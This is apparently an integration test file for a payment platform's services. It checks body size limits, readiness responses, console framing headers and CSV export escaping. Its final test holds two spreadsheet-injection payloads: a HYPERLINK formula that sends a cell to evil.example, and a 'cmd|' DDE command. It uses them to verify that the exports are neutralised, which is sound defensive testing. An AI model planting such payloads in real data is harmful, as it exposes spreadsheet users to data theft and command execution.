import { reportBody, simOrder, startSuite, waitFor, Upstream, type Suite } from '@pt/testing';
import http from 'node:http';
import pg from 'pg';
import { SettlementClient } from './support/settlement-client.js';

/**
 * The edges of every request, over the real services: body size limits per route (and
 * admin uploads refused before they are read), readiness that names no driver error, the
 * console's framing headers, and CSV exports that a spreadsheet cannot run.
 */
describe('request edges', () => {
  let suite: Suite;

  beforeAll(async () => {
    suite = await startSuite('request-edges', ['intake', 'reconciliation', 'settlement']);
  });

  afterAll(async () => {
    await suite?.stop();
  });

  const KB = 1024;
  const counts = async (orderNumber: string) => {
    const { rows } = await suite.db.query(
      `SELECT (SELECT count(*)::int FROM intake.incidents WHERE order_number = $1) AS incidents,
              (SELECT count(*)::int FROM intake.outbox) AS outbox,
              (SELECT count(*)::int FROM intake.idempotency_keys) AS keys`,
      [orderNumber],
    );
    return rows[0] as { incidents: number; outbox: number; keys: number };
  };

  /** A report of `size` bytes: a real one, padded with a long free-text field. */
  const paddedReport = (orderNumber: string, size: number) => {
    const body = JSON.stringify(reportBody(simOrder('edges', { orderNumber }), { description: '' }));
    return body.replace('"description":""', `"description":"${'x'.repeat(size - body.length)}"`);
  };

  /**
   * Sends `chunks` of `chunkSize` bytes to a route over plain HTTP without ending the body,
   * and resolves with the answer: the server can only answer before the end if it did not
   * wait for (or buffer) the whole body.
   */
  const answerBeforeTheEnd = (url: string, headers: Record<string, string>, chunk: string, chunks: number) =>
    new Promise<{ status: number; body: any }>((resolve, reject) => {
      const req = http.request(url, { method: 'POST', headers, agent: false }, (res) => {
        let text = '';
        res.setEncoding('utf8');
        res.on('data', (piece: string) => (text += piece));
        res.on('end', () => {
          req.destroy();
          resolve({ status: res.statusCode ?? 0, body: JSON.parse(text) });
        });
      });
      req.on('error', (error) => reject(error));
      for (let i = 0; i < chunks; i += 1) req.write(chunk);
      // No req.end(): the body is still open when the answer comes.
    });

  describe('body size limits', () => {
    it('refuses a 65 KB report with 413 in the error format, and stores nothing of it', async () => {
      const orderNumber = `EDGE-BIG-${crypto.randomUUID().slice(0, 8)}`;
      const before = await counts(orderNumber);
      const body = paddedReport(orderNumber, 65 * KB);
      expect(Buffer.byteLength(body)).toBe(65 * KB);
      // No credential of any kind: the size is checked before anything else.
      const res = await fetch(`${suite.url('intake')}/v1/incidents`, {
        method: 'POST',
        headers: { 'content-type': 'application/json', 'idempotency-key': `edge-${orderNumber}`, 'x-correlation-id': `edge-${orderNumber}` },
        body,
      });
      expect(res.status).toBe(413);
      expect(await res.json()).toEqual({
        error: 'PAYLOAD_TOO_LARGE',
        message: 'the request body is larger than the 64 KB this route accepts; nothing was done',
        correlationId: `edge-${orderNumber}`,
      });
      expect(await counts(orderNumber)).toEqual({ ...before, incidents: 0 });
    });

    it('refuses a 65 KB report sent without a length (chunked) with 413 as well, storing nothing', async () => {
      const orderNumber = `EDGE-CHUNKED-${crypto.randomUUID().slice(0, 8)}`;
      const before = await counts(orderNumber);
      const bytes = new TextEncoder().encode(paddedReport(orderNumber, 65 * KB));
      const stream = new ReadableStream<Uint8Array>({
        start(controller) {
          for (let at = 0; at < bytes.length; at += 8 * KB) controller.enqueue(bytes.subarray(at, at + 8 * KB));
          controller.close();
        },
      });
      const res = await fetch(`${suite.url('intake')}/v1/incidents`, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: stream,
        duplex: 'half',
      });
      expect(res.status).toBe(413);
      expect(((await res.json()) as { error: string }).error).toBe('PAYLOAD_TOO_LARGE');
      expect(await counts(orderNumber)).toEqual({ ...before, incidents: 0 });
    });

    it('still takes a report just under the limit', async () => {
      const orderNumber = `EDGE-FITS-${crypto.randomUUID().slice(0, 8)}`;
      const res = await fetch(`${suite.url('intake')}/v1/incidents`, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: paddedReport(orderNumber, 60 * KB),
      });
      // Whatever the report's fate (the description may be refused as too long), it is not the size.
      expect(res.status).not.toBe(413);
    });

    it('refuses a large body to an ordinary route with 413, even with the admin token', async () => {
      const big = JSON.stringify({ username: 'x'.repeat(100 * KB), password: 'y' });
      const signIn = await fetch(`${suite.url('intake')}/v1/auth/sign-in`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: big });
      expect(signIn.status).toBe(413);
      const merchant = await fetch(`${suite.url('settlement')}/v1/admin/merchants`, {
        method: 'POST',
        headers: { 'content-type': 'application/json', authorization: `Bearer ${suite.adminToken}` },
        body: JSON.stringify({ name: 'x'.repeat(100 * KB) }),
      });
      expect(merchant.status).toBe(413);
      expect(((await merchant.json()) as { error: string }).error).toBe('PAYLOAD_TOO_LARGE');
      // A CSV body where none is expected is no way around the limit.
      const csv = await fetch(`${suite.url('intake')}/v1/incidents`, {
        method: 'POST',
        headers: { 'content-type': 'text/csv' },
        body: 'a,b\n'.repeat(30 * KB),
      });
      expect(csv.status).toBe(413);
    });

    it('refuses a large card-key import without the admin token with 401, before reading it', async () => {
      const url = `${suite.url('reconciliation')}/v1/admin/card-keys`;
      const line = `SKU-EDGE,${'s'.repeat(1000)}\n`;
      // 8 MB announced, 1 MB sent, the body left open: the answer cannot have waited for it.
      const noToken = await answerBeforeTheEnd(url, { 'content-type': 'text/csv', 'content-length': String(8 * 1024 * KB) }, line.repeat(1024), 1);
      expect(noToken.status).toBe(401);
      expect(noToken.body).toMatchObject({ error: 'UNAUTHORIZED', message: 'a valid admin bearer token is required' });
      const wrongToken = await answerBeforeTheEnd(
        url,
        { 'content-type': 'application/json', 'transfer-encoding': 'chunked', authorization: 'Bearer not-the-token' },
        ' '.repeat(256 * KB),
        4,
      );
      expect(wrongToken.status).toBe(401);
    });

    it('refuses a statement upload without the admin token with 401, before reading it', async () => {
      const url = `${suite.url('reconciliation')}/v1/reconciliation/runs?channel=wechat&date=2026-11-21`;
      const res = await answerBeforeTheEnd(url, { 'content-type': 'text/csv', 'transfer-encoding': 'chunked' }, 'x,y,z\n'.repeat(40 * KB), 4);
      expect(res.status).toBe(401);
    });

    it('takes a card-key import over 64 KB with the admin token, and refuses one over its own limit', async () => {
      const sku = `SKU-EDGE-${crypto.randomUUID().slice(0, 6)}`;
      const rows = Array.from({ length: 1500 }, (_, i) => `${sku},edge-secret-${i}-${crypto.randomUUID()}`);
      const body = `sku,secret\n${rows.join('\n')}\n`;
      expect(Buffer.byteLength(body)).toBeGreaterThan(64 * KB);
      const admin = { authorization: `Bearer ${suite.adminToken}`, 'content-type': 'text/csv' };
      const res = await fetch(`${suite.url('reconciliation')}/v1/admin/card-keys`, { method: 'POST', headers: admin, body });
      expect(res.status).toBe(200);
      expect(await res.json()).toMatchObject({ imported: 1500 });
      const tooBig = await answerBeforeTheEnd(
        `${suite.url('reconciliation')}/v1/admin/card-keys`,
        { ...admin, 'content-length': String(51 * 1024 * KB) },
        'x',
        1,
      );
      expect(tooBig.status).toBe(413);
      expect(tooBig.body.message).toBe('the request body is larger than the 50 MB this route accepts; nothing was done');
    });
  });

  describe('readiness', () => {
    it('answers ready, with ok per check', async () => {
      for (const name of ['intake', 'reconciliation', 'settlement'] as const) {
        const answers = await Promise.all(Array.from({ length: 5 }, () => fetch(`${suite.url(name)}/readyz`)));
        for (const res of answers) {
          expect(res.status).toBe(200);
          expect(await res.json()).toEqual({ status: 'ready', service: name, checks: { database: 'ok', kafka: 'ok' } });
        }
      }
    });

    it('says unreachable, without the driver error, while the database refuses the service; the log has the reason', async () => {
      const settlement = suite.services.settlement!;
      const database = new URL(suite.databaseUrl).pathname.slice(1);
      const admin = new pg.Client({ connectionString: process.env.TEST_PG_ADMIN_URL });
      await admin.connect();
      try {
        await admin.query(`ALTER DATABASE "${database}" ALLOW_CONNECTIONS false`);
        await admin.query(`SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE datname = $1 AND application_name = 'settlement'`, [database]);
        const body = await waitFor('settlement to find its database gone', async () => {
          const res = await fetch(`${settlement.url}/readyz`, { headers: { 'x-correlation-id': 'edges-readyz-down' } });
          return res.status === 503 ? ((await res.json()) as Record<string, unknown>) : undefined;
        });
        expect(body).toEqual({ status: 'not ready', service: 'settlement', checks: { database: 'unreachable', kafka: 'ok' } });
        const entries = settlement.output.flatMap((line) => {
          try {
            return [JSON.parse(line) as Record<string, any>];
          } catch {
            return [];
          }
        });
        const logged = entries.find((e) => e.correlationId === 'edges-readyz-down' && e.check === 'database');
        expect(logged).toMatchObject({ level: 'warn', msg: 'readiness: database unreachable' });
        expect(logged!.err.message).toMatch(/not currently accepting connections|terminat/);
      } finally {
        await admin.query(`ALTER DATABASE "${database}" ALLOW_CONNECTIONS true`);
        await admin.end();
      }
      await waitFor('settlement to be ready again', async () => (await fetch(`${settlement.url}/readyz`)).status === 200);
    });
  });

  describe('agent console', () => {
    it('may not be framed, and still reaches reconciliation from the browser', async () => {
      for (const path of ['/console', '/console/app.js', '/console/config.json']) {
        const res = await fetch(`${suite.url('intake')}${path}`);
        expect(res.status).toBe(200);
        expect(res.headers.get('x-frame-options')).toBe('DENY');
        const policy = res.headers.get('content-security-policy') ?? '';
        expect(policy).toContain("frame-ancestors 'none'");
        expect(policy).toContain(`connect-src 'self' ${suite.url('reconciliation')}`);
      }
      // The page's calls to reconciliation are allowed by CORS for the console's origin.
      const preflight = await fetch(`${suite.url('reconciliation')}/v1/decisions/${crypto.randomUUID()}`, {
        method: 'OPTIONS',
        headers: { origin: suite.url('intake'), 'access-control-request-method': 'GET', 'access-control-request-headers': 'authorization' },
      });
      expect(preflight.headers.get('access-control-allow-origin')).toBe(suite.url('intake'));
    });
  });

  describe('CSV exports', () => {
    it('neutralise a cell that a spreadsheet would run as a formula', async () => {
      const settlement = new SettlementClient(suite);
      const merchant = await settlement.createMerchant(`Edges ${crypto.randomUUID().slice(0, 6)}`);
      const key = (await settlement.createKey(merchant.id)).key;
      const orderNumber = `=HYPERLINK("http://evil.example/?"&A1,"open")`;
      const reference = `@SUM(1+1)*cmd|' /C calc'!A0`;
      await new Upstream(suite.publisher).clearing(simOrder('edges-csv', { orderNumber, merchantId: merchant.id }), reference, 'alipay', 'CLEARED', 1);
      await waitFor('the payment in the read model', async () => {
        const { rows } = await suite.db.query(`SELECT 1 FROM settlement.payments WHERE payment_reference = $1`, [reference]);
        return rows.length === 1;
      });
      const res = await settlement.get('/v1/payments/export.csv', key);
      expect(res.status).toBe(200);
      const line = res.text.split('\r\n')[1];
      const expected = `'@SUM(1+1)*cmd|' /C calc'!A0,"'=HYPERLINK(""http://evil.example/?""&A1,""open"")",`;
      expect(line.slice(0, expected.length)).toBe(expected);
    });
  });
});
